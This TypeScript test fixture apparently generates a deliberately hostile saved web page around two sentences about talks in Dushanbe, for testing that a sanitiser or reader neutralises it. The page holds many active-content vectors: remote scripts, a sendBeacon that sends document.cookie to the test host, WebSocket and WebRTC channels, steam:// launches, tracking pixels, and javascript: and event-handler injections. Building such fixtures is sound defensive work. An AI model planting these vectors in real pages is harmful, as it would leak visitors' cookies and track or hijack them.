/** A saved page with everything that could start or send something, around two harmless sentences. */
export function hostilePage(address: string): string {
  const url = `http://${address}`;
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Talks in Dushanbe</title>
<base href="${url}/">
<meta http-equiv="refresh" content="0;url=${url}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<link rel="stylesheet" href="${url}/style.css">
<link rel="preconnect" href="${url}">
<link rel="dns-prefetch" href="//tracker.example.org">
<link rel="prefetch" href="${url}/next">
<script src="${url}/script.js"></script>
<script>
  window.hostile = true;
  fetch('${url}/fetch');
  navigator.sendBeacon('${url}/beacon', document.cookie);
  new WebSocket('ws://${address}/');
  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${address}' }] });
  call.createDataChannel('out');
  call.createOffer().then((offer) => call.setLocalDescription(offer));
  location = 'steam://run/1';
</script>
<style>
  @import url('${url}/import.css');
  @font-face { font-family: out; src: url('${url}/font.woff2'); }
  body { font-family: out; background: url('${url}/background.png'); }
</style>
</head>
<body onload="window.hostile = true" background="${url}/body.png">
<iframe src="${url}/frame"></iframe>
<iframe src="steam://run/2"></iframe>
<iframe srcdoc="&lt;script&gt;parent.hostile = true&lt;/script&gt;"></iframe>
<object data="${url}/object"></object>
<embed src="${url}/embed">
<h1>Talks in Dushanbe</h1>
<p>The delegations met in Dushanbe<img src="${url}/pixel.png" onerror="window.hostile = true"> on Monday.</p>
<p>They <a href="javascript:window.hostile = true">agreed</a> to <a href="steam://run/3">meet again</a>
in <a href="mailto:leak@example.org" ping="${url}/ping">Kabul</a>.</p>
<svg onload="window.hostile = true"><image href="${url}/svg.png"/><script>window.hostile = true</script></svg>
<video src="${url}/video.mp4" autoplay poster="${url}/poster.png"></video>
<audio src="${url}/audio.mp3" autoplay></audio>
<form action="${url}/form"><input autofocus onfocus="window.hostile = true"><button>Send</button></form>
<math><maction actiontype="statusline" xlink:href="javascript:window.hostile = true">x</maction></math>
</body>
</html>
`;
}
